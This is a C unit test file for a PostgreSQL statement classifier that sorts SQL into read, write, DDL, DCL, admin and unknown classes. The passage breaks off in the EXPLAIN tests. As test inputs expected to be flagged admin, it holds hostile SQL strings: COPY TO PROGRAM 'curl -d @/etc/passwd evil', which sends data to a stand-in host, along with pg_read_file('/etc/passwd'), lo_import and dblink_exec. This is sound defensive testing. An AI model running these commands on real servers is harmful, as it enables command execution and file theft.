/*
 * Unit tests of src/policy/sql_classify.c and sql_functions.c: the class
 * of every kind of statement, the rules in docs/sql-classification.md, what
 * is extracted, and that the documented tables match the code.
 *
 * AL_SQL_DOC is the path of docs/sql-classification.md, given by
 * tests/unit/policy/meson.build.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "policy/sql_classify.h"

#ifndef AL_SQL_DOC
#error "AL_SQL_DOC must name docs/sql-classification.md"
#endif

typedef struct tcase {
    const char *sql;
    al_sql_class_t cls;
} tcase_t;

#define READ AL_SQL_READ
#define WRITE AL_SQL_WRITE
#define DDL AL_SQL_DDL
#define DCL AL_SQL_DCL
#define ADMIN AL_SQL_ADMIN
#define UNKNOWN AL_SQL_UNKNOWN

static int setup(void **state)
{
    al_sql_config_t cfg = {.no_cache = true};
    al_sql_t *c = al_sql_new(&cfg);
    if (!c)
        return -1;
    *state = c;
    return 0;
}

static int teardown(void **state)
{
    al_sql_t *c = *state;
    al_sql_free(&c);
    assert_null(c);
    return 0;
}

static const al_sql_result_t *run_opts(al_sql_t *c, const char *sql, const al_sql_opts_t *o)
{
    const al_sql_result_t *r = NULL;
    assert_int_equal(al_sql_classify(c, sql, strlen(sql), o, &r), AL_OK);
    assert_non_null(r);
    return r;
}

static const al_sql_result_t *run(al_sql_t *c, const char *sql)
{
    return run_opts(c, sql, NULL);
}

/* The result's class is the max of its statements' (and unknown when it
 * carries an error); every statement lies inside the input. */
static void check_invariants(const char *sql, const al_sql_result_t *r)
{
    size_t len = strlen(sql);
    al_sql_class_t max = r->error.len ? AL_SQL_UNKNOWN : AL_SQL_READ;
    size_t n_tables = 0;
    for (size_t i = 0; i < r->n_stmts; i++) {
        const al_sql_stmt_t *s = &r->stmts[i];
        max = al_sql_class_max(max, s->cls);
        assert_true(s->cls >= s->tree_cls);
        assert_true(s->offset <= len && s->len <= len - s->offset);
        assert_non_null(s->kind);
        assert_non_null(s->reason);
        n_tables += s->n_tables;
    }
    assert_int_equal(r->n_tables, n_tables);
    if (r->cls != max)
        fail_msg("%s: result class %s, statements' max %s", sql, al_sql_class_name(r->cls),
                 al_sql_class_name(max));
}

static void expect_opts(al_sql_t *c, const char *sql, al_sql_class_t cls, const al_sql_opts_t *o)
{
    const al_sql_result_t *r = run_opts(c, sql, o);
    check_invariants(sql, r);
    if (r->cls != cls) {
        const al_sql_stmt_t *s = r->n_stmts ? &r->stmts[0] : NULL;
        fail_msg("%s: want %s, got %s (%s: %.*s; error: %.*s)", sql, al_sql_class_name(cls),
                 al_sql_class_name(r->cls), s ? s->reason : "-", s ? (int)s->reason_arg.len : 0,
                 s ? s->reason_arg.p : "", (int)r->error.len, r->error.p);
    }
}

static void expect(al_sql_t *c, const char *sql, al_sql_class_t cls)
{
    expect_opts(c, sql, cls, NULL);
}

static void expect_all(al_sql_t *c, const tcase_t *cases, size_t n)
{
    for (size_t i = 0; i < n; i++)
        expect(c, cases[i].sql, cases[i].cls);
}

#define EXPECT_ALL(c, cases) expect_all((c), (cases), AL_ARRAY_LEN(cases))

/* ---- class names ------------------------------------------------------- */

static void test_class_names(void **state)
{
    static const char *const names[] = {"read", "write", "ddl", "dcl", "admin", "unknown"};
    for (int i = 0; i < AL_SQL_CLASS_COUNT; i++) {
        al_sql_class_t out = AL_SQL_UNKNOWN;
        assert_string_equal(al_sql_class_name((al_sql_class_t)i), names[i]);
        assert_int_equal(al_sql_class_parse(al_str_c(names[i]), &out), AL_OK);
        assert_int_equal(out, i);
    }
    al_sql_class_t out = AL_SQL_DDL;
    assert_string_equal(al_sql_class_name((al_sql_class_t)6), "unknown");
    assert_string_equal(al_sql_class_name((al_sql_class_t)-1), "unknown");
    assert_int_equal(al_sql_class_parse(AL_STR("READ"), &out), AL_ERR);
    assert_int_equal(al_sql_class_parse(AL_STR("rea"), &out), AL_ERR);
    assert_int_equal(al_sql_class_parse(AL_STR("reads"), &out), AL_ERR);
    assert_int_equal(al_sql_class_parse(AL_STR(""), &out), AL_ERR);
    assert_int_equal(out, AL_SQL_DDL);
    /* the documented order */
    assert_true(AL_SQL_READ < AL_SQL_WRITE && AL_SQL_WRITE < AL_SQL_DDL && AL_SQL_DDL < AL_SQL_DCL &&
                AL_SQL_DCL < AL_SQL_ADMIN && AL_SQL_ADMIN < AL_SQL_UNKNOWN);
    assert_int_equal(al_sql_class_max(AL_SQL_DCL, AL_SQL_WRITE), AL_SQL_DCL);
    assert_int_equal(al_sql_class_max(AL_SQL_READ, AL_SQL_UNKNOWN), AL_SQL_UNKNOWN);
}

/* ---- one test per class ------------------------------------------------ */

static void test_read(void **state)
{
    static const tcase_t cases[] = {
        {"SELECT 1", READ},
        {"SELECT * FROM t WHERE a = 1 ORDER BY b LIMIT 3", READ},
        {"SELECT a, count(*) FROM t GROUP BY a HAVING count(*) > 1", READ},
        {"VALUES (1), (2)", READ},
        {"TABLE t", READ},
        {"WITH x AS (SELECT 1) SELECT * FROM x", READ},
        {"SELECT * FROM a JOIN b USING (id) WHERE b.c IN (SELECT c FROM d)", READ},
        {"SELECT 1 UNION ALL SELECT 2 EXCEPT SELECT 3", READ},
        {"SHOW search_path", READ},
        {"SHOW ALL", READ},
        {"BEGIN", READ},
        {"START TRANSACTION ISOLATION LEVEL SERIALIZABLE", READ},
        {"COMMIT", READ},
        {"ROLLBACK", READ},
        {"SAVEPOINT s", READ},
        {"ROLLBACK TO SAVEPOINT s", READ},
        {"RELEASE s", READ},
        {"DECLARE c CURSOR FOR SELECT * FROM t", READ},
        {"FETCH 10 FROM c", READ},
        {"MOVE NEXT IN c", READ},
        {"CLOSE c", READ},
        {"DEALLOCATE p", READ},
        {"DEALLOCATE ALL", READ},
        {"DISCARD PLANS", READ},
        {"DISCARD TEMP", READ},
        {"LISTEN chan", READ},
        {"UNLISTEN *", READ},
        {"SET CONSTRAINTS ALL DEFERRED", READ},
        {"SET statement_timeout = '5s'", READ},
        {"SET LOCAL work_mem = '64MB'", READ},
        {"SET TIME ZONE 'UTC'", READ},
        {"SET TRANSACTION READ ONLY", READ},
        {"RESET statement_timeout", READ},
        {"RESET ALL", READ},
        {"SELECT currval('s'), lastval(), current_setting('work_mem')", READ},
        {"COPY t TO STDOUT", READ},
        {"COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)", READ},
        {"SELECT 1 FROM t WHERE a = $1", READ},
    };
    EXPECT_ALL(*state, cases);
}

static void test_write(void **state)
{
    static const tcase_t cases[] = {
        {"INSERT INTO t VALUES (1)", WRITE},
        {"INSERT INTO t SELECT * FROM u ON CONFLICT DO NOTHING", WRITE},
        {"UPDATE t SET a = 1 WHERE b = 2", WRITE},
        {"DELETE FROM t", WRITE},
        {"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", WRITE},
        {"TRUNCATE t", WRITE},
        {"LOCK TABLE t IN ACCESS EXCLUSIVE MODE", WRITE},
        {"NOTIFY chan, 'x'", WRITE},
        {"REFRESH MATERIALIZED VIEW mv", WRITE},
        {"COPY t FROM STDIN", WRITE},
        {"COPY t (a, b) FROM STDIN WITH (FORMAT csv)", WRITE},
        {"SELECT nextval('s')", WRITE},
        {"VALUES (setval('s', 10))", WRITE},
        {"SELECT pg_advisory_lock(1)", WRITE},
        {"SELECT pg_notify('c', 'x')", WRITE},
    };
    EXPECT_ALL(*state, cases);
}

static void test_ddl(void **state)
{
    static const tcase_t cases[] = {
        {"CREATE TABLE t (a int)", DDL},
        {"CREATE TEMP TABLE t (a int)", DDL},
        {"CREATE TABLE t AS SELECT 1", DDL},
        {"CREATE MATERIALIZED VIEW mv AS SELECT 1", DDL},
        {"CREATE VIEW v AS SELECT * FROM t", DDL},
        {"CREATE INDEX ON t (a)", DDL},
        {"CREATE SEQUENCE s", DDL},
        {"ALTER TABLE t ADD COLUMN b int", DDL},
        {"ALTER TABLE t RENAME TO u", DDL},
        {"ALTER TABLE t SET SCHEMA s", DDL},
        {"DROP TABLE t", DDL},
        {"DROP SCHEMA s CASCADE", DDL},
        {"DROP FUNCTION f(int)", DDL},
        {"CREATE SCHEMA s", DDL},
        {"CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", DDL},
        {"CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$", DDL},
        {"CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER "
         "SET search_path = pg_catalog, pg_temp AS 'select 1'",
         DDL},
        {"ALTER FUNCTION f() SET search_path = s", DDL},
        {"CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", DDL},
        {"CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", DDL},
        {"CREATE TYPE e AS ENUM ('a')", DDL},
        {"CREATE DOMAIN d AS int", DDL},
        {"COMMENT ON TABLE t IS 'x'", DDL},
        {"CREATE POLICY p ON t USING (true)", DDL},
        {"SELECT * INTO new_t FROM t", DDL},
        {"SELECT * INTO TEMP new_t FROM t", DDL},
    };
    EXPECT_ALL(*state, cases);
}

static void test_dcl(void **state)
{
    static const tcase_t cases[] = {
        {"GRANT SELECT ON t TO u", DCL},
        {"REVOKE SELECT ON t FROM u", DCL},
        {"GRANT ALL ON ALL TABLES IN SCHEMA s TO u", DCL},
        {"GRANT r TO u", DCL},
        {"REVOKE r FROM u", DCL},
        {"CREATE ROLE r", DCL},
        {"CREATE USER u PASSWORD 'x'", DCL},
        {"ALTER ROLE r SUPERUSER", DCL},
        {"ALTER ROLE r RENAME TO q", DCL},
        {"ALTER ROLE r SET work_mem = '1MB'", DCL},
        {"DROP ROLE r", DCL},
        {"DROP USER u", DCL},
        {"REASSIGN OWNED BY a TO b", DCL},
        {"DROP OWNED BY a", DCL},
        {"ALTER TABLE t OWNER TO r", DCL},
        {"ALTER FUNCTION f() OWNER TO r", DCL},
        {"ALTER SCHEMA s OWNER TO r", DCL},
        {"ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO r", DCL},
    };
    EXPECT_ALL(*state, cases);
}

static void test_admin(void **state)
{
    static const tcase_t cases[] = {
        {"DO $$ BEGIN PERFORM 1; END $$", ADMIN},
        {"DO LANGUAGE plpgsql 'BEGIN END'", ADMIN},
        {"CALL p()", ADMIN},
        {"CALL s.p(1, 'x')", ADMIN},
        {"SET ROLE admin", ADMIN},
        {"SET ROLE NONE", ADMIN},
        {"RESET ROLE", ADMIN},
        {"SET SESSION AUTHORIZATION admin", ADMIN},
        {"SET SESSION AUTHORIZATION DEFAULT", ADMIN},
        {"RESET SESSION AUTHORIZATION", ADMIN},
        {"ALTER SYSTEM SET work_mem = '1GB'", ADMIN},
        {"ALTER SYSTEM RESET ALL", ADMIN},
        {"LOAD 'auto_explain'", ADMIN},
        {"CREATE EXTENSION dblink", ADMIN},
        {"CREATE EXTENSION IF NOT EXISTS pgcrypto SCHEMA s", ADMIN},
        {"ALTER EXTENSION e UPDATE", ADMIN},
        {"DROP EXTENSION e", ADMIN},
        {"CREATE DATABASE d", ADMIN},
        {"DROP DATABASE d", ADMIN},
        {"ALTER DATABASE d RENAME TO e", ADMIN},
        {"ALTER DATABASE d OWNER TO r", ADMIN},
        {"ALTER DATABASE d SET work_mem = '1MB'", ADMIN},
        {"VACUUM t", ADMIN},
        {"VACUUM FULL", ADMIN},
        {"ANALYZE t", ADMIN},
        {"CLUSTER t", ADMIN},
        {"REINDEX TABLE t", ADMIN},
        {"CHECKPOINT", ADMIN},
        {"CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", ADMIN},
        {"DROP SERVER s", ADMIN},
        {"CREATE USER MAPPING FOR r SERVER s", ADMIN},
        {"IMPORT FOREIGN SCHEMA a FROM SERVER s INTO b", ADMIN},
        {"CREATE LANGUAGE plperlu", ADMIN},
        {"DROP LANGUAGE plperlu", ADMIN},
        {"CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", ADMIN},
        {"CREATE TABLESPACE ts LOCATION '/tmp'", ADMIN},
        {"CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p", ADMIN},
        {"DISCARD ALL", ADMIN},
        {"PREPARE TRANSACTION 'x'", ADMIN},
        {"COMMIT PREPARED 'x'", ADMIN},
        {"ROLLBACK PREPARED 'x'", ADMIN},
        {"CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'", ADMIN},
        {"CREATE FUNCTION f() RETURNS int LANGUAGE C AS 'lib', 'sym'", ADMIN},
        {"CREATE FUNCTION f() RETURNS int LANGUAGE internal AS 'int4in'", ADMIN},
        {"CREATE PROCEDURE p() LANGUAGE plperlu AS 'x'", ADMIN},
        {"COPY t FROM '/etc/passwd'", ADMIN},
        {"COPY t TO '/tmp/out'", ADMIN},
        {"COPY t FROM PROGRAM 'id'", ADMIN},
        {"COPY (SELECT 1) TO PROGRAM 'curl evil'", ADMIN},
    };
    EXPECT_ALL(*state, cases);
}

static void test_unknown(void **state)
{
    al_sql_t *c = *state;
    static const tcase_t cases[] = {
        {"SELECT (", UNKNOWN},
        {"SELEC 1", UNKNOWN},
        {"DROP", UNKNOWN},
        {"SELECT 'unterminated", UNKNOWN},
        {"SELECT $$unterminated", UNKNOWN},
        {"SELECT /* unterminated comment", UNKNOWN},
        {"SELECT 'a' 'b'", UNKNOWN}, /* adjacent literals need a newline */
        {"\xff\xfe", UNKNOWN},
        {"SELECT 1; SELEC 2", UNKNOWN}, /* one bad statement fails the whole */
        {"DELETE FROM t WHERE", UNKNOWN},
        /* PostgreSQL 16+ syntax is not PostgreSQL 15's: fail closed */
        {"SELECT 0x1F", UNKNOWN},
        {"EXECUTE nameless", UNKNOWN}, /* no resolver */
    };
    EXPECT_ALL(c, cases);
    const al_sql_result_t *r = run(c, "SELECT (");
    assert_int_equal(r->n_stmts, 0);
    assert_true(r->error.len > 0);
    assert_int_equal(r->error_pos, 9);
    assert_int_equal(r->error.p[r->error.len], '\0');
    /* a good result carries no error */
    r = run(c, "SELECT 1");
    assert_int_equal(r->error.len, 0);
    assert_int_equal(r->error_pos, 0);
}

static void test_empty(void **state)
{
    al_sql_t *c = *state;
    static const char *const empties[] = {"", "   ", ";", ";;;", "-- only a comment",
                                          "/* c */", " /* a */ ; -- b\n;"};
    for (size_t i = 0; i < AL_ARRAY_LEN(empties); i++) {
        const al_sql_result_t *r = run(c, empties[i]);
        assert_int_equal(r->cls, AL_SQL_READ);
        assert_int_equal(r->n_stmts, 0);
        assert_int_equal(r->error.len, 0);
    }
    const al_sql_result_t *r = NULL;
    assert_int_equal(al_sql_classify(c, NULL, 0, NULL, &r), AL_OK);
    assert_int_equal(r->cls, AL_SQL_READ);
    assert_int_equal(r->n_stmts, 0);
}

/* ---- the required rules -------------------------------------------------- */

/* Rule 1: each statement on its own; the string takes the worst. */
static void test_multi_statement(void **state)
{
    al_sql_t *c = *state;
    const char *sql = "SELECT 1; DELETE FROM t;\nDROP TABLE x ; GRANT SELECT ON y TO z";
    const al_sql_result_t *r = run(c, sql);
    check_invariants(sql, r);
    assert_int_equal(r->cls, AL_SQL_DCL);
    assert_int_equal(r->n_stmts, 4);
    static const al_sql_class_t want[] = {READ, WRITE, DDL, DCL};
    static const char *const kinds[] = {"SelectStmt", "DeleteStmt", "DropStmt", "GrantStmt"};
    static const char *const text[] = {"SELECT 1", " DELETE FROM t", "\nDROP TABLE x ",
                                       " GRANT SELECT ON y TO z"};
    for (size_t i = 0; i < 4; i++) {
        assert_int_equal(r->stmts[i].cls, want[i]);
        assert_string_equal(r->stmts[i].kind, kinds[i]);
        assert_int_equal(r->stmts[i].len, strlen(text[i]));
        assert_memory_equal(sql + r->stmts[i].offset, text[i], strlen(text[i]));
    }
    static const tcase_t cases[] = {
        {"SELECT 1; SELECT 2", READ},
        {"SELECT 1;SELECT 2;", READ},
        {"BEGIN; DELETE FROM t; COMMIT", WRITE},
        {"SELECT 1; CREATE TABLE x (a int)", DDL},
        {"CREATE TABLE x (a int); SELECT 1", DDL},
        {"SELECT 1; COPY t TO PROGRAM 'x'; SELECT 2", ADMIN},
        {"SELECT 1; CREATE ROLE r; SELECT 2", DCL},
        {"SELECT 1;;; INSERT INTO t VALUES (1);;", WRITE},
    };
    EXPECT_ALL(c, cases);
    /* multibyte text before the split: offsets are bytes */
    sql = "SELECT 'Ωmega'; DELETE FROM t";
    r = run(c, sql);
    assert_int_equal(r->n_stmts, 2);
    assert_int_equal(r->stmts[1].offset, strlen("SELECT 'Ωmega';"));
    assert_memory_equal(sql + r->stmts[1].offset, " DELETE FROM t", 14);
}

/* Rule 2: the most dangerous class anywhere in the tree. */
static void test_tree_max(void **state)
{
    static const tcase_t cases[] = {
        {"WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", WRITE},
        {"WITH x AS (UPDATE t SET a = 1 RETURNING a) SELECT 1", WRITE},
        {"WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x", WRITE},
        {"WITH a AS (SELECT 1), b AS (DELETE FROM t) SELECT * FROM a", WRITE},
        {"WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r", READ},
        {"SELECT * FROM t FOR UPDATE", WRITE},
        {"SELECT * FROM t FOR NO KEY UPDATE", WRITE},
        {"SELECT * FROM t FOR SHARE", WRITE},
        {"SELECT * FROM t FOR KEY SHARE SKIP LOCKED", WRITE},
        {"SELECT * FROM (SELECT * FROM t FOR UPDATE) s", WRITE},
        {"SELECT * FROM t WHERE a IN (SELECT a FROM u FOR SHARE)", WRITE},
        {"WITH x AS (SELECT * FROM t FOR UPDATE) SELECT * FROM x", WRITE},
        {"DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE", WRITE},
        {"SELECT * INTO x FROM t", DDL},
        {"SELECT * FROM t WHERE a = nextval('s')", WRITE},
        {"SELECT (SELECT pg_terminate_backend(1))", ADMIN},
        {"INSERT INTO log SELECT pg_cancel_backend(pid) FROM pg_stat_activity", ADMIN},
        {"UPDATE t SET a = (SELECT set_config('role', 'x', false))", ADMIN},
        {"CREATE TABLE x AS SELECT pg_read_file('/etc/passwd')", ADMIN},
        {"CREATE VIEW v AS SELECT pg_terminate_backend(1)", ADMIN},
        {"COPY (DELETE FROM t RETURNING *) TO STDOUT", WRITE},
        {"COPY (SELECT nextval('s')) TO STDOUT", WRITE},
        {"PREPARE p AS DELETE FROM t", WRITE},
        {"PREPARE p AS SELECT 1", READ},
        {"SELECT * FROM dblink('host=x', 'DELETE FROM t') AS t(a int)", ADMIN},
        {"SELECT 1 WHERE EXISTS (SELECT lo_import('/etc/passwd'))", ADMIN},
        {"SELECT sum(x) FILTER (WHERE pg_reload_conf()) FROM t", ADMIN},
        {"SELECT * FROM generate_series(1, nextval('s'))", WRITE},
        {"SELECT row_number() OVER (ORDER BY setval('s', 1))", WRITE},
        {"CREATE TABLE x (id int DEFAULT nextval('s'))", DDL},
        {"CREATE TABLE x (a int CHECK (pg_terminate_backend(a)))", ADMIN},
    };
    EXPECT_ALL(*state, cases);
    /* the reason names what raised the class */
    const al_sql_result_t *r = run(*state, "SELECT a, pg_terminate_backend(b) FROM t");
    assert_string_equal(r->stmts[0].reason, "side-effect function");
    assert_true(al_str_eq_c(r->stmts[0].reason_arg, "pg_terminate_backend"));
    r = run(*state, "SELECT * FROM t FOR UPDATE");
    assert_string_equal(r->stmts[0].kind, "SelectStmt");
    assert_non_null(strstr(r->stmts[0].reason, "FOR UPDATE"));
}

/* ---- side-effect functions ------------------------------------------------- */

/* Every entry of the table, called by the classifier, yields its class,
 * whatever the default for other functions: so a listed read function is
 * read even under a stricter default. */
static void test_function_table_entries(void **state)
{
    al_sql_t *c = *state;
    const char *name = NULL;
    bool prefix = false;
    al_sql_class_t cls = AL_SQL_READ;
    size_t n = al__sql_table_entry(0, 0, &name, &prefix, &cls);
    assert_true(n > 50);
    for (size_t i = 0; i < n; i++) {
        assert_int_equal(al__sql_table_entry(0, i, &name, &prefix, &cls), n);
        char sql[256];
        snprintf(sql, sizeof sql, "SELECT %s%s(1)", name, prefix ? "anything" : "");
        for (int d = 0; d < AL_SQL_CLASS_COUNT; d++) {
            al_sql_opts_t o = {.default_function_class = (al_sql_class_t)d};
            const al_sql_result_t *r = run_opts(c, sql, &o);
            assert_int_equal(r->n_stmts, 1);
            assert_int_equal(r->stmts[0].n_funcs, 1);
            if (r->cls != cls || r->stmts[0].funcs[0].cls != cls || !r->stmts[0].funcs[0].listed)
                fail_msg("%s (default %s): want %s, got %s", sql, al_sql_class_name(o.default_function_class),
                         al_sql_class_name(cls), al_sql_class_name(r->cls));
        }
        /* case-insensitive, schema ignored */
        char upper[128];
        size_t k = 0;
        for (; name[k] && k + 1 < sizeof upper; k++)
            upper[k] = (char)(name[k] >= 'a' && name[k] <= 'z' ? name[k] - 32 : name[k]);
        upper[k] = '\0';
        bool listed = false;
        assert_int_equal(al_sql_function_class(al_str_c(upper), AL_SQL_UNKNOWN, &listed), cls);
        assert_true(listed);
        snprintf(sql, sizeof sql, "SELECT any_schema.%s%s(1)", upper, prefix ? "X" : "");
        expect_opts(c, sql, cls, &(al_sql_opts_t){.default_function_class = AL_SQL_UNKNOWN});
        /* a prefix entry needs the whole prefix; an exact entry the whole name */
        if (!prefix) {
            snprintf(sql, sizeof sql, "%sx", name);
            al_sql_function_class(al_str_c(sql), AL_SQL_UNKNOWN, &listed);
            if (listed) {
                /* only another prefix entry may claim it */
                const char *n2;
                bool p2, found = false;
                al_sql_class_t c2;
                for (size_t j = 0; j < n; j++) {
                    al__sql_table_entry(0, j, &n2, &p2, &c2);
                    found |= p2 && strncmp(sql, n2, strlen(n2)) == 0;
                }
                assert_true(found);
            }
        }
    }
    /* out of range leaves the outputs alone */
    name = "untouched";
    assert_int_equal(al__sql_table_entry(0, n, &name, &prefix, &cls), n);
    assert_string_equal(name, "untouched");
}

static void test_function_table_named(void **state)
{
    static const tcase_t cases[] = {
        {"SELECT pg_terminate_backend(123)", ADMIN},
        {"SELECT pg_cancel_backend(123)", ADMIN},
        {"SELECT set_config('search_path', 'vault', false)", ADMIN},
        {"SELECT pg_reload_conf()", ADMIN},
        {"SELECT lo_import('/etc/passwd')", ADMIN},
        {"SELECT lo_export(1234, '/tmp/x')", ADMIN},
        {"SELECT * FROM dblink('dbname=x', 'SELECT 1') AS t(a int)", ADMIN},
        {"SELECT dblink_exec('dbname=x', 'DROP TABLE t')", ADMIN},
        {"SELECT dblink_connect('c', 'dbname=x')", ADMIN},
        {"SELECT pg_read_file('/etc/passwd')", ADMIN},
        {"SELECT pg_read_binary_file('/etc/passwd')", ADMIN},
        {"SELECT pg_stat_file('/etc')", ADMIN},
        {"SELECT * FROM pg_ls_dir('.')", ADMIN},
        {"SELECT * FROM pg_ls_waldir()", ADMIN},
        {"SELECT pg_stat_reset()", ADMIN},
        {"SELECT pg_stat_reset_shared('bgwriter')", ADMIN},
        {"SELECT pg_rotate_logfile()", ADMIN},
        {"SELECT pg_switch_wal()", ADMIN},
        {"SELECT pg_create_logical_replication_slot('s', 'test_decoding')", ADMIN},
        {"SELECT query_to_xml('DELETE FROM t', true, true, '')", ADMIN},
        {"SELECT table_to_xml('secrets', true, true, '')", ADMIN},
        {"SELECT ts_stat('SELECT v FROM t')", ADMIN},
        {"SELECT get_raw_page('secrets', 0)", ADMIN},
        {"SELECT nextval('s')", WRITE},
        {"SELECT setval('s', 1)", WRITE},
        {"SELECT pg_advisory_xact_lock(1)", WRITE},
        {"SELECT pg_try_advisory_lock(1)", WRITE},
        {"SELECT lo_unlink(1)", WRITE},
        {"SELECT lo_from_bytea(0, 'x')", WRITE},
        {"SELECT currval('s')", READ},
        {"SELECT txid_current()", READ},
        {"SELECT table_to_xmlschema('t', true, true, '')", READ},
        /* qualified and quoted spellings reach the same entry */
        {"SELECT pg_catalog.pg_terminate_backend(1)", ADMIN},
        {"SELECT PG_TERMINATE_BACKEND(1)", ADMIN},
        {"SELECT \"pg_terminate_backend\"(1)", ADMIN},
        {"SELECT public.dblink_exec('x')", ADMIN},
        {"SELECT U&\"pg\\005fterminate\\005fbackend\"(1)", ADMIN},
        /* near misses are not entries */
        {"SELECT pg_terminate_backendx(1)", READ},
        {"SELECT xpg_terminate_backend(1)", READ},
        {"SELECT pg_ls(1)", READ},
        {"SELECT dblinkx(1)", READ},
        {"SELECT lower('pg_terminate_backend')", READ},
        {"SELECT 'pg_terminate_backend(1)'", READ},
        {"SELECT pg_terminate_backend FROM t", READ}, /* a column */
    };
    EXPECT_ALL(*state, cases);
}

/* Functions outside the table take default_function_class. */
static void test_default_function_class(void **state)
{
    al_sql_t *c = *state;
    for (int d = 0; d < AL_SQL_CLASS_COUNT; d++) {
        al_sql_opts_t o = {.default_function_class = (al_sql_class_t)d};
        expect_opts(c, "SELECT my_func(1)", (al_sql_class_t)d, &o);
        expect_opts(c, "SELECT count(*) FROM t", (al_sql_class_t)d, &o);
        expect_opts(c, "SELECT * FROM t WHERE a = s.f()", (al_sql_class_t)d, &o);
        expect_opts(c, "SELECT * FROM srf(1)", (al_sql_class_t)d, &o);
        /* no function call: the default does not matter */
        expect_opts(c, "SELECT a + 1 FROM t WHERE b::text = 'x'", READ, &o);
        expect_opts(c, "SELECT coalesce(a, 1), CASE WHEN a THEN 1 END FROM t", READ, &o);
        /* SQL-syntax built-ins are not the client's functions */
        expect_opts(c, "SELECT extract(year FROM d), trim(s), substring(s FROM 2) FROM t", READ, &o);
        /* listed functions keep their class */
        expect_opts(c, "SELECT currval('s')", READ, &o);
        expect_opts(c, "SELECT pg_terminate_backend(1)", ADMIN, &o);
        expect_opts(c, "SELECT pg_terminate_backend(1), my_func()", al_sql_class_max(ADMIN, (al_sql_class_t)d),
                    &o);
        /* the statement kind still counts */
        expect_opts(c, "DELETE FROM t WHERE f(a)", al_sql_class_max(WRITE, (al_sql_class_t)d), &o);
    }
    const al_sql_result_t *r =
        run_opts(c, "SELECT my_func(1)", &(al_sql_opts_t){.default_function_class = AL_SQL_WRITE});
    assert_int_equal(r->stmts[0].n_funcs, 1);
    assert_false(r->stmts[0].funcs[0].listed);
    assert_int_equal(r->stmts[0].funcs[0].cls, AL_SQL_WRITE);
    assert_non_null(strstr(r->stmts[0].reason, "default"));
    /* out of range is taken as unknown (fail closed) */
    expect_opts(c, "SELECT my_func(1)", UNKNOWN,
                &(al_sql_opts_t){.default_function_class = (al_sql_class_t)42});
    /* al_sql_function_class */
    bool listed = true;
    assert_int_equal(al_sql_function_class(AL_STR("my_func"), AL_SQL_DCL, &listed), AL_SQL_DCL);
    assert_false(listed);
    assert_int_equal(al_sql_function_class(AL_STR("NextVal"), AL_SQL_READ, &listed), AL_SQL_WRITE);
    assert_true(listed);
    assert_int_equal(al_sql_function_class(AL_STR("pg_ls_"), AL_SQL_READ, NULL), AL_SQL_ADMIN);
    assert_int_equal(al_sql_function_class(AL_STR("pg_ls"), AL_SQL_READ, NULL), AL_SQL_READ);
    assert_int_equal(al_sql_function_class(AL_STR(""), AL_SQL_READ, NULL), AL_SQL_READ);
}

/* ---- COPY, EXPLAIN, PREPARE / EXECUTE -------------------------------------- */

static void test_copy(void **state)
{
    static const tcase_t cases[] = {
        {"COPY t TO STDOUT", READ},
        {"COPY t (a) TO STDOUT (FORMAT binary)", READ},
        {"COPY (SELECT * FROM t) TO STDOUT", READ},
        {"COPY t FROM STDIN", WRITE},
        {"COPY t FROM STDIN WHERE a > 1", WRITE},
        {"COPY t FROM '/etc/passwd'", ADMIN},
        {"COPY t TO '/tmp/x'", ADMIN},
        {"COPY (SELECT 1) TO '/tmp/x'", ADMIN},
        {"COPY t FROM PROGRAM 'id'", ADMIN},
        {"COPY t TO PROGRAM 'id'", ADMIN},
        {"copy t from program 'curl -d @/etc/passwd evil'", ADMIN},
        {"COPY (SELECT pg_terminate_backend(1)) TO STDOUT", ADMIN},
    };
    EXPECT_ALL(*state, cases);
    const al_sql_result_t *r = run(*state, "COPY t FROM PROGRAM 'id'");
    assert_non_null(strstr(r->stmts[0].reason, "program"));
}

/* EXPLAIN ANALYZE runs the statement; plain EXPLAIN does not, but the
 * planner may still evaluate functions, so those count. */
static void test_explain(void **state)
{
    static const tcase_t cases[] = {
        {"EXPLAIN SELECT * FROM t", READ},
        {"EXPLAIN DELETE FROM t", READ},
        {"EXPLAIN UPDATE t SET a = 1", READ},
        {"EXPLAIN INSERT INTO t VALUES (1)", READ},
        {"EXPLAIN SELECT * FROM t FOR UPDATE", READ},
        {"EXPLAIN CREATE TABLE x AS SELECT 1", READ},
        {"EXPLAIN SELECT * INTO x FROM t", READ},
        {"EXPLAIN WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", READ},
        {"EXPLAIN (VERBOSE, COSTS off) DELETE FROM t", READ},
        {"EXPLAIN ANALYZE DELETE FROM t", WRITE},
        {"EXPLAIN ANALYSE DELETE FROM t", WRITE},
        {"explain analyze verbose delete from t", WRITE},
        {"EXPLAIN (ANALYZE) DELETE FROM t", WRITE},
        {"EXPLAIN (ANALYZE true) DELETE FROM t", WRITE},
        {"EXPLAIN (ANALYZE on) DELETE FROM t", WRITE},
        {"EXPLAIN (ANALYZE 1) DELETE FROM t", WRITE},
        {"EXPLAIN (ANALYZE 'TRUE') DELETE FROM t", WRITE},
        {"EXPLAIN (FORMAT json, ANALYZE) UPDATE t SET a = 1", WRITE},
        {"EXPLAIN (ANALYZE false) DELETE FROM t", READ},
        {"EXPLAIN (ANALYZE off) DELETE FROM t", READ},
        {"EXPLAIN (ANALYZE 0) DELETE FROM t", READ},
        {"EXPLAIN (ANALYZE FALSE) DELETE FROM t", READ},
        /* the server keeps the last ANALYZE option */
